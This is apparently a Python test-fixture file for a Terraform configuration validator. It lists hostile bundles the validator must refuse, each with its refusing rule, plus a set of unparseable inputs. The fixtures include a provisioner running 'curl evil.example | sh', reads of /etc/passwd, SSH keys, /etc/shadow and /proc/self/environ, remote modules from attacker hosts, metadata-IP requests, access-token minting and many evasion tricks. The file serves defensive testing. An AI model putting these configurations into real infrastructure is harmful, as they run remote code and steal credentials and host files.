"""Bundles that must never reach Terraform: (name, rule that refuses, files)."""

Case = tuple[str, str, dict[str, str]]

VM = 'resource "google_compute_instance" "vm" {\n  name         = "vm"\n  machine_type = "e2-micro"\n%s\n}\n'


def main(text: str, **files: str) -> dict[str, str]:
    return {"main.tf": text, **files}


READ = 'output "x" {\n  value = %s\n}\n'
TWO = 'resource "terraform_data" "y" {\n  for_each = { a = "ok.txt" }\n  input = file(each.value)\n}\n'
USE = 'data "google_client_config" "c" {}\nlocals {\n  %s\n}\n'

HOSTILE: list[Case] = [
    (
        "local_exec",
        "provisioner",
        main(VM % '  provisioner "local-exec" {\n    command = "curl evil.example | sh"\n  }'),
    ),
    (
        "remote_exec_with_connection",
        "provisioner",
        main(
            VM
            % '  connection {\n    host = self.network\n  }\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }'
        ),
    ),
    (
        "file_provisioner",
        "provisioner",
        main(VM % '  provisioner "file" {\n    source = "a"\n    destination = "/b"\n  }'),
    ),
    ("connection_alone", "connection", main(VM % '  connection {\n    type = "ssh"\n  }')),
    (
        "null_resource",
        "provisioner",
        main('resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n'),
    ),
    (
        "one_line_provisioner",
        "provisioner",
        main('resource "null_resource" "x" { provisioner "local-exec" { command = "id" } }\n'),
    ),
    (
        "terraform_data_on_destroy",
        "provisioner",
        main(
            'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    when    = destroy\n    command = "id"\n  }\n}\n'
        ),
    ),
    (
        "unquoted_labels",
        "provisioner",
        main('resource terraform_data x {\n  provisioner local-exec {\n    command = "id"\n  }\n}\n'),
    ),
    (
        "dynamic_provisioner",
        "provisioner",
        main(
            'resource "terraform_data" "x" {\n  dynamic "provisioner" {\n    for_each = [1]\n    labels   = ["local-exec"]\n'
            '    content {\n      command = "id"\n    }\n  }\n}\n'
        ),
    ),
    (
        "removed_block_runs_on_destroy",
        "provisioner",
        main(
            'removed {\n  from = terraform_data.x\n  lifecycle {\n    destroy = true\n  }\n  provisioner "local-exec" {\n'
            '    when    = destroy\n    command = "id"\n  }\n}\n'
        ),
    ),
    (
        "json_provisioner",
        "provisioner",
        {
            "main.tf.json": '{"resource":{"null_resource":{"x":{"provisioner":{"local-exec":{"command":"id"}}}}}}'
        },
    ),
    (
        "json_provisioner_in_lists",
        "provisioner",
        {
            "main.tf.json": '[{"resource":[{"null_resource":[{"x":[{"provisioner":[{"local-exec":[{"command":"id"}]}]}]}]}]}]'
        },
    ),
    (
        "json_duplicate_key",
        "provisioner",
        {
            "main.tf.json": '{"resource":{"null_resource":{"x":{"provisioner":{"local-exec":{"command":"id"}}}}},'
            '"resource":{"null_resource":{"y":{}}}}'
        },
    ),
    (
        "json_escaped_key",
        "provisioner",
        {
            "main.tf.json": '{"resource":{"null_resource":{"x":{"\\u0070rovisioner":{"local-exec":{"command":"id"}}}}}}'
        },
    ),
    (
        "override_file",
        "provisioner",
        {
            "main.tf": 'resource "null_resource" "x" {}\n',
            "main_override.tf": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        },
    ),
    (
        "opentofu_file",
        "provisioner",
        {
            "main.tf": "",
            "main.tofu": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        },
    ),
    (
        "in_a_local_module",
        "provisioner",
        {
            "main.tf": 'module "m" {\n  source = "./modules/m"\n}\n',
            "modules/m/main.tf": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        },
    ),
    (
        "after_a_byte_order_mark_and_crlf",
        "provisioner",
        main(
            '\ufeffresource "null_resource" "x" {\r\n  provisioner "local-exec" {\r\n    command = "id"\r\n  }\r\n}\r\n'
        ),
    ),
    (
        "after_a_comment_that_looks_open",
        "provisioner",
        main(
            '# /*\nresource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id" # */\n  }\n}\n'
        ),
    ),
    (
        "action_block",
        "action",
        main('action "local_command" "x" {\n  config {\n    command = "id"\n  }\n}\n'),
    ),
    (
        "action_trigger",
        "action",
        main(
            VM
            % "  lifecycle {\n    action_trigger {\n      events  = [after_create]\n      actions = [action.a.b]\n    }\n  }"
        ),
    ),
    ("list_block", "action", main('list "google_compute_instance" "all" {\n  provider = google\n}\n')),
    (
        "external_data",
        "foreign_provider",
        main('data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n'),
    ),
    ("http_data", "foreign_provider", main('data "http" "x" {\n  url = "http://169.254.169.254/"\n}\n')),
    (
        "http_data_in_a_check",
        "foreign_provider",
        main(
            'check "up" {\n  data "http" "x" {\n    url = "http://evil.example"\n  }\n  assert {\n    condition     = true\n'
            '    error_message = "no"\n  }\n}\n'
        ),
    ),
    (
        "local_file",
        "foreign_provider",
        main('resource "local_file" "x" {\n  filename = "/tmp/x"\n  content = "x"\n}\n'),
    ),
    (
        "local_sensitive_file_data",
        "foreign_provider",
        main('data "local_sensitive_file" "x" {\n  filename = "/etc/shadow"\n}\n'),
    ),
    ("local_command", "foreign_provider", main('data "local_command" "x" {\n  command = "id"\n}\n')),
    (
        "archive_of_the_host",
        "foreign_provider",
        main(
            'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/etc"\n  output_path = "/tmp/x.zip"\n}\n'
        ),
    ),
    (
        "template_dir",
        "foreign_provider",
        main('resource "template_dir" "x" {\n  source_dir = "a"\n  destination_dir = "/etc/cron.d"\n}\n'),
    ),
    (
        "tls_data",
        "foreign_provider",
        main('data "tls_certificate" "x" {\n  url = "https://evil.example"\n}\n'),
    ),
    (
        "shell_provider",
        "foreign_provider",
        main('resource "shell_script" "x" {\n  lifecycle_commands {\n    create = "id"\n  }\n}\n'),
    ),
    ("aws", "foreign_provider", main('resource "aws_instance" "x" {}\n')),
    ("ephemeral_of_another", "foreign_provider", main('ephemeral "vault_kv_secret" "x" {}\n')),
    (
        "google_by_another_source",
        "foreign_provider",
        main(
            'terraform {\n  required_providers {\n    google = {\n      source = "evil/google"\n    }\n  }\n}\n'
        ),
    ),
    (
        "google_by_another_registry",
        "foreign_provider",
        main(
            'terraform {\n  required_providers {\n    google = { source = "evil.example/hashicorp/google" }\n  }\n}\n'
        ),
    ),
    (
        "source_given_twice",
        "foreign_provider",
        main(
            'terraform {\n  required_providers {\n    google = { source = "hashicorp/google", source = "evil/google" }\n  }\n}\n'
        ),
    ),
    (
        "source_under_a_computed_key",
        "foreign_provider",
        main(
            'terraform {\n  required_providers {\n    google = { ("sour${"ce"}") = "evil/google" }\n  }\n}\n'
        ),
    ),
    (
        "foreign_by_version_only",
        "foreign_provider",
        main('terraform {\n  required_providers {\n    external = "~> 2"\n  }\n}\n'),
    ),
    (
        "json_required_providers",
        "foreign_provider",
        {"v.tf.json": '{"terraform":{"required_providers":{"google":{"source":"evil/google"}}}}'},
    ),
    (
        "foreign_provider_block",
        "foreign_provider",
        main('provider "kubernetes" {\n  host = "https://x"\n}\n'),
    ),
    (
        "handed_to_another_provider",
        "foreign_provider",
        main('resource "google_compute_network" "n" {\n  name     = "n"\n  provider = evil.here\n}\n'),
    ),
    (
        "foreign_function",
        "foreign_provider",
        main('output "x" {\n  value = provider::local::direxists("/etc")\n}\n'),
    ),
    (
        "module_given_a_foreign_provider",
        "foreign_provider",
        {
            "main.tf": 'module "m" {\n  source = "./m"\n  providers = {\n    google = evil.x\n  }\n}\n',
            "m/main.tf": "",
        },
    ),
    (
        "remote_state",
        "remote_state",
        main(
            'data "terraform_remote_state" "x" {\n  backend = "gcs"\n  config = {\n    bucket = "theirs"\n  }\n}\n'
        ),
    ),
    (
        "registry_module",
        "remote_module",
        main('module "m" {\n  source = "terraform-google-modules/network/google"\n}\n'),
    ),
    ("git_module", "remote_module", main('module "m" {\n  source = "git::https://evil.example/m.git"\n}\n')),
    ("github_module", "remote_module", main('module "m" {\n  source = "github.com/evil/m"\n}\n')),
    ("ssh_module", "remote_module", main('module "m" {\n  source = "git@evil.example:m.git"\n}\n')),
    ("http_module", "remote_module", main('module "m" {\n  source = "https://evil.example/m.zip"\n}\n')),
    (
        "bucket_module",
        "remote_module",
        main('module "m" {\n  source = "gcs::https://www.googleapis.com/storage/v1/b/m.zip"\n}\n'),
    ),
    ("absolute_module", "remote_module", main('module "m" {\n  source = "/etc/terraform"\n}\n')),
    ("module_above", "remote_module", main('module "m" {\n  source = "./../../x"\n}\n')),
    ("hidden_module", "remote_module", main('module "m" {\n  source = "./.terraform/modules/m"\n}\n')),
    (
        "computed_module",
        "remote_module",
        main('locals {\n  s = "./m"\n}\nmodule "m" {\n  source = local.s\n}\n'),
    ),
    (
        "module_fetched_by_a_test_file",
        "remote_module",
        {
            "main.tf": "",
            "tests/a.tftest.hcl": 'run "x" {\n  module {\n    source = "git::https://evil.example/m.git"\n  }\n}\n',
        },
    ),
    (
        "json_module",
        "remote_module",
        {"m.tf.json": '{"module":{"m":{"source":"git::https://evil.example/m"}}}'},
    ),
    (
        "nested_remote_module",
        "remote_module",
        {
            "main.tf": 'module "a" {\n  source = "./a"\n}\n',
            "a/main.tf": 'module "b" {\n  source = "evil/b/google"\n}\n',
        },
    ),
    ("gcs_backend", "backend", main('terraform {\n  backend "gcs" {\n    bucket = "theirs"\n  }\n}\n')),
    (
        "local_backend_elsewhere",
        "backend",
        main('terraform {\n  backend "local" {\n    path = "/home/x/.bashrc"\n  }\n}\n'),
    ),
    ("cloud_block", "backend", main('terraform {\n  cloud {\n    organization = "theirs"\n  }\n}\n')),
    (
        "json_backend",
        "backend",
        {"b.tf.json": '{"terraform":{"backend":{"http":{"address":"http://evil.example"}}}}'},
    ),
    (
        "provider_meta",
        "backend",
        main('terraform {\n  provider_meta "google" {\n    module_name = "x"\n  }\n}\n'),
    ),
    (
        "encryption_by_a_program",
        "backend",
        main(
            'terraform {\n  encryption {\n    key_provider "external" "x" {\n      command = ["id"]\n    }\n  }\n}\n'
        ),
    ),
    ("experiments", "backend", main("terraform {\n  experiments = [unknown]\n}\n")),
    ("credentials", "provider_credentials", main('provider "google" {\n  credentials = "{}"\n}\n')),
    (
        "access_token",
        "provider_credentials",
        main('variable "t" {}\nprovider "google" {\n  access_token = var.t\n}\n'),
    ),
    (
        "external_credentials",
        "provider_credentials",
        main('provider "google" {\n  external_credentials {\n    audience = "x"\n  }\n}\n'),
    ),
    (
        "custom_endpoint",
        "provider_endpoint",
        main('provider "google-beta" {\n  compute_custom_endpoint = "https://evil.example/"\n}\n'),
    ),
    ("universe", "provider_endpoint", main('provider "google" {\n  universe_domain = "evil.example"\n}\n')),
    ("file_of_the_host", "file_outside", main('output "x" {\n  value = file("/etc/passwd")\n}\n')),
    ("file_at_home", "file_outside", main('output "x" {\n  value = file("~/.ssh/id_rsa")\n}\n')),
    (
        "file_above",
        "file_outside",
        main('output "x" {\n  value = filebase64("${path.module}/../../secret")\n}\n'),
    ),
    (
        "file_in_the_core_namespace",
        "file_outside",
        main('output "x" {\n  value = core::file("/etc/passwd")\n}\n'),
    ),
    (
        "file_with_a_space_before_its_bracket",
        "file_outside",
        main('output "x" {\n  value = file /* x */ ("/etc/passwd")\n}\n'),
    ),
    (
        "file_in_a_heredoc",
        "file_outside",
        main('output "x" {\n  value = <<-E\n    ${file("/etc/passwd")}\n  E\n}\n'),
    ),
    (
        "file_in_a_directive",
        "file_outside",
        main('output "x" {\n  value = "%{ if fileexists("/etc/x") }a%{ endif }"\n}\n'),
    ),
    (
        "file_in_a_for",
        "file_outside",
        main('output "x" {\n  value = [for f in ["/etc/passwd"] : file(f)]\n}\n'),
    ),
    (
        "file_of_a_variable",
        "file_computed",
        main('variable "f" {}\noutput "x" {\n  value = file(var.f)\n}\n'),
    ),
    (
        "file_of_a_variable_with_a_value",
        "file_outside",
        {
            "main.tf": 'variable "f" {\n  default = "a.txt"\n}\noutput "x" {\n  value = file(var.f)\n}\n',
            "a.txt": "a",
            "terraform.tfvars": 'f = "/etc/passwd"\n',
        },
    ),
    (
        "file_by_home_function",
        "file_computed",
        main('output "x" {\n  value = file(pathexpand("~/.ssh/id_rsa"))\n}\n'),
    ),
    (
        "file_by_working_directory",
        "file_outside",
        main('output "x" {\n  value = file("${path.cwd}/../x")\n}\n'),
    ),
    (
        "file_by_joined_dots",
        "file_outside",
        main(
            'locals {\n  up = join("/", ["..", "..", "etc"])\n}\noutput "x" {\n  value = file("${local.up}/passwd")\n}\n'
        ),
    ),
    (
        "file_by_format",
        "file_outside",
        main('output "x" {\n  value = filesha256(format("%s/%s", "/etc", "passwd"))\n}\n'),
    ),
    (
        "own_backend_settings",
        "file_outside",
        main('output "x" {\n  value = file(".terraform/terraform.tfstate")\n}\n'),
    ),
    (
        "all_files_found",
        "file_computed",
        main('output "x" {\n  value = [for f in fileset(path.module, "**") : file(f)]\n}\n'),
    ),
    ("fileset_above", "file_computed", main('output "x" {\n  value = fileset(path.module, "{.,..}/*")\n}\n')),
    ("fileset_of_the_host", "file_outside", main('output "x" {\n  value = fileset("/home", "**")\n}\n')),
    (
        "template_that_reads",
        "file_outside",
        {
            "main.tf": 'output "x" {\n  value = templatefile("${path.module}/a.tftpl", {})\n}\n',
            "a.tftpl": 'hello ${file("/etc/passwd")}\n',
        },
    ),
    (
        "template_that_reads_what_it_is_given",
        "file_computed",
        {
            "main.tf": 'output "x" {\n  value = templatefile("a.tftpl", { f = "/etc/passwd" })\n}\n',
            "a.tftpl": '${"}" == "" ? "" : file(f)}\n',
        },
    ),
    (
        "template_from_a_string",
        "file_computed",
        main(
            'locals {\n  t = "$${file(\\"/etc/passwd\\")}"\n}\noutput "x" {\n  value = templatestring(local.t, {})\n}\n'
        ),
    ),
    (
        "bucket_object_of_the_host",
        "file_outside",
        main(
            'resource "google_storage_bucket_object" "o" {\n  name = "o"\n  bucket = "b"\n  source = "/etc/passwd"\n}\n'
        ),
    ),
    (
        "json_file",
        "file_outside",
        {"o.tf.json": '{"output":{"x":{"value":"${file(\\"/etc/passwd\\")}"}}}'},
    ),
    (
        "json_file_in_a_list",
        "file_outside",
        {"o.tf.json": '{"locals":{"x":[{"y":"a ${upper(file(\\"/etc/passwd\\"))}"}]}}'},
    ),
    ("module_manifest", "reserved_file", main("", **{".terraform/modules/modules.json": "{}"})),
    ("state_file", "state_file", main("", **{"errored.tfstate": "{}"})),
    ("query_file", "query_file", main("", **{"a.tfquery.hcl": 'list "x" "y" {}\n'})),
    ("name_above", "path_escapes", {"../main.tf": ""}),
    ("name_with_a_detour", "path_escapes", {"./x/../main.tf": ""}),
    (
        "path_means_something_else_in_a_for",
        "file_computed",
        main(
            'output "x" {\n  value = [for path in [{ module = "/etc" }] : file("${path.module}/passwd")]\n}\n',
            passwd="",
        ),
    ),
    (
        "path_means_something_else_in_a_directive",
        "file_computed",
        main(
            'output "x" {\n  value = "%{ for path in [{ module = "/etc" }] }${file("${path.module}/passwd")}%{ endfor }"\n}\n',
            passwd="",
        ),
    ),
    (
        "each_means_something_else_in_a_dynamic_block",
        "file_computed",
        main(
            'resource "google_compute_instance" "x" {\n  for_each = toset(["a"])\n  dynamic "disk" {\n    for_each = ["/etc/passwd"]\n'
            "    iterator = each\n    content {\n      source = file(each.value)\n    }\n  }\n}\n",
            a="",
        ),
    ),
    (
        "an_element_that_only_looks_known",
        "file_outside",
        main(
            'locals {\n  x = { y = ["/etc/passwd"], a = "a" }\n}\nresource "null_resource" "x" {\n  for_each = toset(local.x.y)\n'
            "  triggers = { t = file(each.key) }\n}\n",
            a="",
            y="",
        ),
    ),
    (
        "json_file_in_a_key",
        "file_outside",
        {"o.tf.json": '{"locals":{"x":{"a ${file(\\"/etc/passwd\\")}":1}}}'},
    ),
    (
        "configuration_used_as_a_template",
        "file_computed",
        main('# ${file("/etc/passwd")}\noutput "x" {\n  value = templatefile("main.tf", {})\n}\n'),
    ),
    ("escaped_type", "foreign_provider", main('data "\\u0065xternal" "x" {\n  program = ["id"]\n}\n')),
    (
        "escaped_key",
        "foreign_provider",
        main(
            'terraform {\n  required_providers {\n    google = { "s\\u006furce" = "evil/google" }\n  }\n}\n'
        ),
    ),
    (
        "conditional_source",
        "foreign_provider",
        main(
            'terraform {\n  required_providers {\n    google = true ? { source = "evil/google" } : {}\n  }\n}\n'
        ),
    ),
    (
        "source_in_a_template",
        "remote_module",
        main('module "m" {\n  source = "${"git::https://evil.example/m"}"\n}\n'),
    ),
    (
        "file_in_a_postcondition",
        "file_outside",
        main(
            'resource "google_compute_network" "n" {\n  name = "n"\n  lifecycle {\n    postcondition {\n'
            '      condition     = file("/proc/self/environ") == ""\n      error_message = file("/proc/self/environ")\n'
            "    }\n  }\n}\n"
        ),
    ),
    (
        "file_in_a_dynamic_block",
        "file_outside",
        main(
            'resource "google_compute_instance" "v" {\n  dynamic "x" {\n    for_each = [1]\n    content {\n'
            '      y = base64encode(file("../../secret"))\n    }\n  }\n}\n'
        ),
    ),
    (
        "ssh_key_of_whoever_runs_this",
        "file_outside",
        main(VM % '  metadata = {\n    ssh-keys = "u:${file("~/.ssh/id_rsa.pub")}"\n  }'),
    ),
    (
        "import_for_each_file_of_the_host",
        "file_outside",
        main(
            'import {\n  for_each = fileset("/home", "**")\n  to = google_compute_network.n[each.key]\n  id = each.key\n}\n'
        ),
    ),
    (
        "provisioner_in_a_module_only_a_test_calls",
        "provisioner",
        {
            "main.tf": "",
            "tests/a.tftest.hcl": 'run "a" {\n  module {\n    source = "./spare"\n  }\n}\n',
            "spare/main.tf": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        },
    ),
    (
        "state_in_another_store",
        "backend",
        main('terraform {\n  state_store "evil_store" {\n    provider "evil" {}\n  }\n}\n'),
    ),
    (
        "json_remote_state",
        "remote_state",
        {
            "d.tf.json": '{"data":[{"terraform_remote_state":{"x":{"backend":"http","config":{"address":"http://x"}}}}]}'
        },
    ),
    (
        "json_template_in_a_directive",
        "file_outside",
        {"o.tf.json": '{"output":{"x":{"value":"%{ if fileexists(\\"/etc/x\\") }y%{ endif }"}}}'},
    ),
    (
        "json_required_providers_in_lists",
        "foreign_provider",
        {"v.tf.json": '{"terraform":[{"required_providers":[{"google":{"source":"evil/google"}}]}]}'},
    ),
    (
        "values_in_an_auto_file",
        "file_outside",
        {
            "main.tf": 'variable "f" {\n  default = "a.txt"\n}\noutput "x" {\n  value = file("${path.module}/${var.f}")\n}\n',
            "z.auto.tfvars.json": '{"f": "../../etc/passwd"}',
        },
    ),
    (
        "path_given_to_a_module",
        "file_outside",
        {
            "main.tf": 'module "m" {\n  source = "./m"\n  f = "/etc/passwd"\n}\n',
            "m/main.tf": 'variable "f" {\n  default = "a.txt"\n}\noutput "x" {\n  value = file(var.f)\n}\n',
        },
    ),
    (
        "second_definition_in_an_override",
        "file_outside",
        {
            "main.tf": 'locals {\n  f = "a.txt"\n}\noutput "x" {\n  value = file(local.f)\n}\n',
            "override.tf": 'locals {\n  f = "/etc/passwd"\n}\n',
        },
    ),
    (
        "override_of_a_repetition",
        "override_file",
        main(
            TWO,
            **{
                "override.tf": 'resource "terraform_data" "y" {\n  for_each = { a = "/etc/hostname" }\n}\n',
                "ok.txt": "ok",
            },
        ),
    ),
    (
        "override_of_a_module_argument_in_json",
        "override_file",
        {
            "main.tf": 'module "m" {\n  source = "./m"\n}\n',
            "m/main.tf": 'variable "path" {\n  default = "ok.txt"\n}\n' + READ % "file(var.path)",
            "z_override.tf.json": '{"module":{"m":{"path":"/etc/hostname"}}}',
        },
    ),
    (
        "override_inside_a_module",
        "override_file",
        {
            "main.tf": 'module "m" {\n  source = "./m"\n}\n',
            "m/main.tf": "locals {\n  a = 1\n}\n",
            "m/override.tofu": "locals {\n  a = 2\n}\n",
        },
    ),
    ("trimmed_path", "file_outside", main(READ % 'file(trimspace(" /etc/hostname"))')),
    ("padded_path", "file_outside", main(READ % 'file(" ../../etc/hostname")')),
    (
        "trimmed_path_of_a_set",
        "file_outside",
        main(
            'resource "terraform_data" "x" {\n  for_each = toset([" /etc/hostname"])\n'
            "  input    = file(trimspace(each.key))\n}\n"
        ),
    ),
    ("stripped_path", "file_computed", main(READ % 'file(" ${~ "/etc/hostname" ~} ")')),
    ("stripped_path_on_one_side", "file_computed", main(READ % 'file("${"" ~} /etc/hostname")')),
    ("one_arm_outside", "file_outside", main(READ % 'file(true ? "/etc/hostname" : "ok.txt")')),
    (
        "one_arm_that_is_not_known",
        "file_computed",
        main('variable "p" {}\n' + READ % 'file(true ? "ok.txt" : var.p)'),
    ),
    (
        "one_element_of_many_outside",
        "file_outside",
        main(
            'locals {\n  a = { b = { f = "ok.txt" }, c = { f = "../x" } }\n}\n'
            + READ % "[for k, v in local.a : file(v.f)]"
        ),
    ),
    (
        "element_by_a_computed_key",
        "file_outside",
        main(
            'variable "e" {}\nlocals {\n  a = { b = "ok.txt", c = "/etc/hostname" }\n}\n'
            + READ % "file(local.a[var.e])"
        ),
    ),
    (
        "element_whose_key_is_computed",
        "file_outside",
        main(
            'locals {\n  k = "a"\n  a = { a = "ok.txt", (local.k) = "/etc/hostname" }\n}\n'
            + READ % "file(local.a.a)"
        ),
    ),
    (
        "element_that_a_type_adds",
        "file_computed",
        main(
            'variable "v" {\n  type = object({ p = optional(string, "/etc/hostname"), q = string })\n'
            '  default = { q = "ok.txt" }\n}\n' + READ % "[for k, v in var.v : file(v)]"
        ),
    ),
    (
        "for_inside_a_for",
        "file_outside",
        main(READ % '[for a in ["..", "b"] : [for b in ["x", "y"] : file("${a}/${b}")]]'),
    ),
    (
        "key_of_a_for",
        "file_outside",
        main(READ % '{ for k, v in { "/etc/hostname" = 1 } : k => file(k) }'),
    ),
    (
        "for_whose_name_hides_a_local",
        "file_computed",
        main(
            'locals {\n  p = "ok.txt"\n}\n'
            + READ % '[for local in [{ p = "/etc/hostname" }] : file(local.p)]'
        ),
    ),
    (
        "values_a_validation_allows",
        "file_outside",
        main(
            'variable "e" {\n  validation {\n    condition = contains(["a", "../../b"], var.e)\n'
            '    error_message = "no"\n  }\n}\n' + READ % 'file("${path.module}/${var.e}")'
        ),
    ),
    (
        "validation_with_a_way_round",
        "file_computed",
        main(
            'variable "e" {\n  validation {\n    condition = contains(["a"], var.e) || true\n'
            '    error_message = "no"\n  }\n}\n' + READ % 'file("${path.module}/${var.e}")'
        ),
    ),
    ("absolute_in_the_middle", "file_computed", main(READ % 'file("a${abspath("b")}")')),
    ("absolute_and_up", "file_outside", main(READ % 'file("${abspath(path.module)}/../../x")')),
    (
        "template_of_a_counted_name",
        "file_outside",
        main(
            'resource "terraform_data" "x" {\n  count = 2\n  input = templatefile("${count.index}.tpl", {})\n}\n',
            **{"0.tpl": "a", "1.tpl": '${file("/etc/hostname")}'},
        ),
    ),
    (
        "spread_elements",
        "file_computed",
        main(
            'resource "terraform_data" "x" {\n  for_each = merge([{ x = "ok.txt", y = { x = "/etc/hostname" } }]...)\n'
            '  input = file(try(each.value.x, "ok.txt"))\n}\n'
        ),
    ),
    (
        "template_whose_number_a_type_adds",
        "file_outside",
        main(
            'variable "v" {\n  type = object({ p = optional(number, 1), q = string })\n'
            '  default = { q = "0" }\n}\n' + READ % '[for k, v in var.v : templatefile("${v}.tpl", {})]',
            **{"0.tpl": "a", "1.tpl": '${file("/etc/hostname")}'},
        ),
    ),
    (
        "two_ways_to_write_a_number",
        "file_outside",
        main('locals {\n  a = { 1 = "ok.txt", 01 = "/etc/hostname" }\n}\n' + READ % 'file(local.a["1"])'),
    ),
    (
        "two_ways_to_write_a_letter",
        "file_outside",
        main(
            'locals {\n  a = { "\u00e9" = "ok.txt", "e\u0301" = "/etc/hostname" }\n}\n'
            + READ % 'file(local.a["\u00e9"])'
        ),
    ),
    (
        "template_by_a_number",
        "file_computed",
        main(READ % 'templatefile("${1e3}.tpl", {})', **{"1000.tpl": '${file("/x")}', "1000.0.tpl": ""}),
    ),
    (
        "default_of_a_lookup",
        "file_outside",
        main(READ % 'file(lookup({ a = "ok.txt" }, "b", "/etc/hostname"))'),
    ),
    (
        "element_that_a_type_adds_in_json",
        "file_computed",
        {
            "main.tf": READ % "[for k, v in var.v : file(v)]",
            "v.tf.json": '{"variable":{"v":{"type":"object({p=optional(string,\\"/etc/hostname\\"),q=string})",'
            '"default":{"q":"ok.txt"}}}}',
        },
    ),
    (
        "forged_place_of_a_template",
        "path_escapes",
        main(
            READ % 'templatefile("\ue000here/t.tpl", {})',
            **{"t.tpl": "a", "\ue000here/t.tpl": '${file("/x")}'},
        ),
    ),
    (
        "own_token_behind_a_comment",
        "mints_token",
        main(USE % "t = (data./* a */google_client_config.c./* b */access_token)"),
    ),
    ("own_token_in_parentheses", "mints_token", main(USE % "t = (data.google_client_config.c).access_token")),
    ("own_token", "mints_token", main(USE % "t = data.google_client_config.c.access_token")),
    ("own_token_by_index", "mints_token", main(USE % 't = data.google_client_config.c["access_token"]')),
    ("own_token_by_splat", "mints_token", main(USE % "t = data.google_client_config.c[*].access_token")),
    ("own_token_whole", "mints_token", main(USE % "t = jsonencode(data.google_client_config.c)")),
    (
        "own_token_by_a_hidden_name",
        "mints_token",
        main(USE % "t = [for data in [data.google_client_config.c] : data.access_token]"),
    ),
    (
        "own_token_by_a_hidden_name_in_a_template",
        "mints_token",
        main(USE % 't = "%{ for data in [data.google_client_config.c] }${data.access_token}%{ endfor }"'),
    ),
    (
        "token_of_another",
        "mints_token",
        main('data "google_service_account_access_token" "t" {\n  target_service_account = "x"\n}\n'),
    ),
    (
        "ephemeral_token_of_another",
        "mints_token",
        main('ephemeral "google_service_account_id_token" "t" {\n  target_audience = "https://x"\n}\n'),
    ),
]

UNREADABLE: list[tuple[str, dict[str, str]]] = [
    ("unclosed_block", main('resource "null_resource" "x" {\n')),
    ("unclosed_comment", main('/* resource "null_resource" "x" {}\n')),
    ("unclosed_heredoc", main('locals {\n  a = <<EOT\n  EOT x\n}\nresource "null_resource" "x" {}\n')),
    ("nul_byte", main('locals {\n  a = "b\0"\n}\n')),
    ("lone_carriage_return", main('# a\rresource "null_resource" "x" {}\n')),
    ("lone_surrogate", main('locals {\n  a = "\ud800"\n}\n')),
    ("nested_past_reason", main("locals {\n  a = " + "(" * 3000 + "1" + ")" * 3000 + "\n}\n")),
    ("doubtful_escape", main('locals {\n  a = "$$$${file("x")}"\n}\n')),
    ("not_json", {"a.tf.json": '{"resource": }'}),
    ("json_with_a_trailing_word", {"a.tf.json": "{} x"}),
    ("json_with_a_broken_template", {"a.tf.json": '{"locals":{"a":"${"}}'}),
    ("misspelt_block", main('resorce "google_compute_network" "n" {\n  name = "n"\n}\n')),
    (
        "misremembered_source",
        main(
            'terraform {\n  required_providers {\n    google = {\n      source = "google/google"\n    }\n  }\n}\n'
        ),
    ),
    ("misspelt_provider", main('resource "gogle_compute_network" "n" {\n  name = "n"\n}\n')),
    (
        "heredoc_whose_end_is_padded_with_a_strange_space",
        main(
            'resource "null_resource" "x" {\n  triggers = {\n    a = <<EOT\nhello\n   EOT\u00a0\n  }\n  provisioner "local-exec" {\n'
            "    command = <<EOT\nid\nEOT\n  }\n}\n"
        ),
    ),
    ("broken_values", {"main.tf": "", "terraform.tfvars": "a = \n"}),
]
